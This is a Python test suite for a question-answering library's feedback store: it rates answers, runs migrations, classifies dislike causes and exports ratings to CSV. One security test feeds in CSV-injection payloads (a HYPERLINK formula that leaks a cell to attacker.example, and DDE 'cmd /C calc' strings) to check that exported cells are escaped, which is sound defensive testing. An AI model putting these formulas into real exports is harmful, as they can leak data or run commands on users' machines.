"""Ratings in a real SQLite file (and PostgreSQL in the slow tier); analytics against the rows."""

from __future__ import annotations

import csv
import io
import sqlite3
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta

import pytest
import sqlalchemy as sa

from rag_core.errors import NotFoundError
from rag_core.feedback.analytics import (
    NO_CITATION,
    Tally,
    by_day,
    by_document,
    by_mode,
    csv_cell,
    dislike_cause,
    dislike_causes,
    most_disliked,
    tally,
    to_csv,
)
from rag_core.feedback.store import MIGRATIONS, FeedbackStore, Rating
from rag_core.library import Library
from rag_core.store.database import apply_migrations, create_engine
from rag_core.types import Answer, Timing

from . import postgres
from .pdfs import make_pdf
from .test_library import APPLES, ENGINES

T0 = datetime(2025, 3, 1, 9, 30, tzinfo=UTC)


@pytest.fixture
def filled(library: Library) -> Library:
    library.add([("orchard.pdf", make_pdf(APPLES)), ("engine.pdf", make_pdf(ENGINES))])
    return library


@pytest.fixture
def store(settings) -> FeedbackStore:
    return FeedbackStore.open(settings.feedback_url)


def rating(answer: Answer, vote: int, message: str, *, session: str = "s1", day: int = 0, **kw):
    return Rating(
        session_id=session,
        message_id=message,
        vote=vote,
        answer=answer,
        asked_at=T0 + timedelta(days=day),
        **kw,
    )


def test_rating_stores_the_whole_trace(filled: Library, store: FeedbackStore, settings):
    answer = filled.ask("Why did pear output fall?")
    record = store.rate(
        rating(
            answer,
            -1,
            "m1",
            rewrite="rule",
            comment="wrong page",
            timings=(Timing("ui.first_token", 12.5), Timing("ui.total", 40.0)),
            language="en",
        )
    )
    [citation] = answer.citations
    assert (record.vote, record.comment, record.question) == (-1, "wrong page", answer.question)
    assert (record.searched_query, record.rewrite) == ("Why did pear output fall?", "rule")
    assert (record.answer, record.mode, record.model) == (answer.text, "extractive", "extractive")
    assert (record.refused, record.evidence_found, record.language) == (False, True, "en")
    assert record.citations == answer.citations and citation.page_number == 3
    assert [(h.rank, h.chunk_id, h.doc_name, h.page, h.legs) for h in record.hits] == [
        (h.rank, h.chunk.id, h.doc_name, h.chunk.page, h.legs) for h in answer.hits
    ]
    assert record.hits[0].leg_rank("bm25") == answer.hits[0].leg_rank("bm25") is not None
    legs = {leg.leg: leg.status for leg in record.legs}
    assert (legs["bm25"], legs["dense"]) == ("on", "on")
    assert [leg.leg for leg in record.legs] == [leg.leg for leg in answer.trace.legs]
    stages = [t.stage for t in record.timings]
    assert stages[:3] == ["ui.first_token", "ui.total", "retrieve"]
    assert "retrieve.fuse" in stages and record.timing("ui.total") == 40.0
    assert (record.asked_at, record.workspace, record.session_id) == (T0, "default", "s1")

    # The row in the file, read without Folio.
    with sqlite3.connect(settings.db) as db:
        rows = db.execute("SELECT session_id, message_id, vote, question FROM feedback").fetchall()
    assert rows == [("s1", "m1", -1, "Why did pear output fall?")]


def test_changing_a_vote_updates_the_row(filled: Library, store: FeedbackStore, settings):
    answer = filled.ask("How often should the engine oil be changed?")
    first = store.rate(rating(answer, 1, "m1", comment="great"))
    second = store.rate(rating(answer, -1, "m1"))
    assert second.id == first.id and second.vote == -1
    assert second.comment == "great"  # no comment given: the stored one stays
    assert second.created_at == first.created_at and second.updated_at >= first.updated_at
    store.rate(rating(answer, -1, "m1", session="s2"))  # another session's answer: own row
    assert [(r.session_id, r.vote) for r in store.records()] == [("s1", -1), ("s2", -1)]
    with sqlite3.connect(settings.db) as db:
        assert db.execute("SELECT count(*) FROM feedback").fetchone() == (2,)

    assert store.comment("s1", "m1", "  the oil grade is missing ").comment == (
        "the oil grade is missing"
    )
    assert store.withdraw("s1", "m1") is True and store.withdraw("s1", "m1") is False
    assert store.get("s1", "m1") is None
    with pytest.raises(NotFoundError, match="Rate the answer"):
        store.comment("s1", "m1", "too late")
    with pytest.raises(ValueError, match="vote must be 1 or -1"):
        store.rate(rating(answer, 0, "m9"))


def test_migrations_apply_once_and_share_a_database_with_the_registry(library: Library, settings):
    # With DATABASE_URL both live in one database: the registry's migrations ran already.
    url = library.settings.registry_url
    store = FeedbackStore.open(url)
    assert store.migrate() == []  # already applied at open
    extra = [*MIGRATIONS, ("f999_test", lambda conn: conn.execute(sa.text("SELECT 1")))]
    assert apply_migrations(store.engine, extra, lock_key=1) == ["f999_test"]
    with sqlite3.connect(settings.data_dir / "library.db") as db:
        names = [r[0] for r in db.execute("SELECT name FROM _migrations ORDER BY name")]
    assert names == [
        "f001_feedback",
        "f002_request_id",
        "f003_sentences",
        "f004_route",
        "f999_test",
        "m001_registry",
        "m002_api_keys",
        "m003_sources",
    ]


def test_request_id_column_is_added_to_an_existing_table(filled: Library, tmp_path):
    url = f"sqlite:///{tmp_path / 'old.db'}"
    old = FeedbackStore(create_engine(url))
    assert apply_migrations(old.engine, MIGRATIONS[:1], lock_key=1) == ["f001_feedback"]
    with old.engine.begin() as conn:  # a rating stored before the column existed
        conn.execute(
            sa.text(
                "INSERT INTO feedback (workspace, session_id, message_id, vote, question,"
                " searched_query, answer, mode, model, refused, asked_at, created_at, updated_at)"
                " VALUES ('default', 's0', 'm0', 1, 'q', 'q', 'a', 'extractive', 'm', 0,"
                " '2026-01-01 00:00:00', '2026-01-01 00:00:00', '2026-01-01 00:00:00')"
            )
        )
    store = FeedbackStore.open(url)
    assert store.get("s0", "m0").request_id == ""
    answer = filled.ask("How often should the engine oil be changed?")
    record = store.rate(rating(answer, 1, "m1", request_id="req-7"))
    assert record.request_id == "req-7" and store.get("s1", "m1").request_id == "req-7"


def test_workspaces_keep_their_own_ratings(filled: Library, settings):
    answer = filled.ask("How often should the engine oil be changed?")
    a = FeedbackStore.open(settings.feedback_url, workspace="a")
    b = FeedbackStore.open(settings.feedback_url, workspace="b")
    a.rate(rating(answer, 1, "m1"))
    assert len(a.records()) == 1 and b.records() == []


# Analytics -----------------------------------------------------------------------------
@pytest.fixture
def rated(filled: Library, store: FeedbackStore) -> FeedbackStore:
    """Eight ratings over three days, both modes, every dislike cause."""
    pears = filled.ask("Why did pear output fall?")
    oil = filled.ask("How often should the engine oil be changed?")
    nothing = filled.ask("quantum chromodynamics lattice gauge")
    assert nothing.refused and not nothing.evidence_found
    uncited = replace(pears, text="I am not sure.", citations=(), refused=True)
    as_claude = replace(oil, mode="claude", model="claude-test")
    for vote, answer, message, day in [
        (1, pears, "m1", 0),
        (-1, pears, "m2", 0),  # cited but wrong
        (1, oil, "m3", 1),
        (-1, nothing, "m4", 1),  # no evidence
        (-1, uncited, "m5", 1),  # evidence not cited
        (1, as_claude, "m6", 2),
        (-1, as_claude, "m7", 2),  # cited but wrong
        (-1, replace(pears, question="why did PEAR output fall"), "m8", 2),
    ]:
        store.rate(rating(answer, vote, message, day=day))
    return store


def test_dislike_causes_follow_their_definitions(rated: FeedbackStore):
    causes = {r.message_id: dislike_cause(r) for r in rated.records() if not r.liked}
    assert causes == {
        "m2": "cited_wrong",
        "m4": "no_evidence",
        "m5": "not_cited",
        "m7": "cited_wrong",
        "m8": "cited_wrong",
    }
    assert dislike_causes(rated.records()) == [
        ("no_evidence", 1),
        ("not_cited", 1),
        ("cited_wrong", 3),
    ]


def test_a_declined_answer_that_shows_the_closest_passages_is_not_cited(
    filled: Library, store: FeedbackStore
):
    answer = filled.ask("When does the turbocharger need inspection?")  # no date stated
    assert answer.refused and answer.evidence_found and answer.citations
    record = store.rate(rating(answer, -1, "m9"))
    assert dislike_cause(record) == "not_cited"


def test_analytics_match_the_rows_in_feedback_db(rated: FeedbackStore, settings):
    records = rated.records()
    with sqlite3.connect(settings.db) as db:
        up, down = db.execute(
            "SELECT sum(vote = 1), sum(vote = -1) FROM feedback WHERE workspace = 'default'"
        ).fetchone()
        per_day = db.execute(
            "SELECT date(asked_at), sum(vote = 1), sum(vote = -1) FROM feedback "
            "GROUP BY date(asked_at) ORDER BY 1"
        ).fetchall()
        per_mode = db.execute(
            "SELECT mode, sum(vote = 1), sum(vote = -1) FROM feedback GROUP BY mode ORDER BY 1"
        ).fetchall()
    assert tally(records) == Tally(up, down) == Tally(3, 5)
    assert [(d.isoformat(), t.up, t.down) for d, t in by_day(records)] == per_day
    assert [(m, t.up, t.down) for m, t in by_mode(records)] == per_mode
    assert by_day(records)[0] == (date(2025, 3, 1), Tally(1, 1))
    assert by_document(records) == [
        ("engine.pdf", Tally(2, 1)),
        ("orchard.pdf", Tally(1, 2)),
        (NO_CITATION, Tally(0, 2)),
    ]
    assert Tally(3, 5).rate == 3 / 8 and Tally().rate is None


def test_most_disliked_groups_questions_and_keeps_traces(rated: FeedbackStore):
    top = most_disliked(rated.records(), limit=2)
    assert [(q.question, q.dislikes, q.likes) for q in top] == [
        ("why did PEAR output fall", 3, 1),
        ("How often should the engine oil be changed?", 1, 2),
    ]
    assert [r.message_id for r in top[0].records] == ["m8", "m5", "m2", "m1"]
    assert top[0].records[0].hits and top[0].records[0].searched_query


def test_csv_export_has_one_line_per_row(rated: FeedbackStore):
    records = rated.records()
    lines = list(csv.DictReader(io.StringIO(to_csv(records))))
    assert [line["message_id"] for line in lines] == [r.message_id for r in records]
    assert [line["vote"] for line in lines] == ["1", "-1", "1", "-1", "-1", "1", "-1", "-1"]
    assert [line["dislike_cause"] for line in lines] == [
        "",
        "cited_wrong",
        "",
        "no_evidence",
        "not_cited",
        "",
        "cited_wrong",
        "cited_wrong",
    ]
    assert lines[0]["cited_pages"] == "orchard.pdf p.3"


@pytest.mark.security
def test_csv_cells_that_start_like_a_formula_stay_text(rated: FeedbackStore):
    """OWASP CSV injection: a spreadsheet would run these cells; a leading ' keeps them text."""
    record = rated.records()[1]  # a thumbs-down citing orchard.pdf page 3
    citation = replace(record.citations[0], doc_name="@SUM(1+1)*cmd|' /C calc'!A0.pdf")
    attack = replace(
        record,
        comment='=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
        question="+1+cmd|' /C calc'!A0",
        searched_query="-2+3",
        answer="\tTAB=1+1",
        session_id="\rCR=1",
        citations=(citation,),
    )
    [line] = list(csv.DictReader(io.StringIO(to_csv([attack]))))
    assert line["comment"] == '\'=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
    assert line["question"] == "'+1+cmd|' /C calc'!A0"
    assert line["searched_query"] == "'-2+3"
    assert line["answer"] == "'\tTAB=1+1"
    assert line["session_id"] == "'\rCR=1"
    assert line["cited_documents"] == "'@SUM(1+1)*cmd|' /C calc'!A0.pdf"
    assert line["cited_pages"] == "'@SUM(1+1)*cmd|' /C calc'!A0.pdf p.3"
    assert (line["vote"], line["id"]) == ("-1", str(record.id))  # numbers stay numbers
    assert (line["mode"], line["dislike_cause"]) == ("extractive", "cited_wrong")
    assert csv_cell("a = b") == "a = b" and csv_cell(-1) == -1 and csv_cell("") == ""


@pytest.mark.slow
def test_feedback_store_on_postgresql(filled: Library):
    postgres.require()
    answer = filled.ask("Why did pear output fall?")
    with postgres.postgres_server() as url:
        store = FeedbackStore.open(url)
        assert FeedbackStore.open(url).migrate() == []
        first = store.rate(rating(answer, 1, "m1", comment="ok"))
        second = store.rate(rating(answer, -1, "m1"))
        assert (second.id, second.vote, second.comment) == (first.id, -1, "ok")
        assert second.asked_at == T0 and second.citations == answer.citations
        assert second.hits[0].legs == answer.hits[0].legs
        assert [r.message_id for r in store.records()] == ["m1"]
        assert store.withdraw("s1", "m1") and store.records() == []
        store.engine.dispose()
